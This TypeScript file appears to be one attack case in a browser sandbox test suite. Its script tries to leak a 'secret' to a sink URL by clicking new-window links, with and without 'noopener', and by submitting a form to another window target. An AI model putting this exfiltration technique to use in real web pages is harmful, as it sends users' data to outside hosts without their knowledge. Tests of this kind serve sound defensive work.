import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "app page",
  what: "a link into a new window",
  script: `
    for (const rel of ["", "noopener"]) {
      const link = document.createElement("a");
      Object.assign(link, { href: sink + "?secret", target: "_blank", rel });
      document.body.append(link);
      link.click();
    }
    const form = document.createElement("form");
    Object.assign(form, { action: "/", target: "elsewhere" });
    document.body.append(form);
    form.submit();
    await new Promise((later) => setTimeout(later, 500));
  `,
  click: true,
};
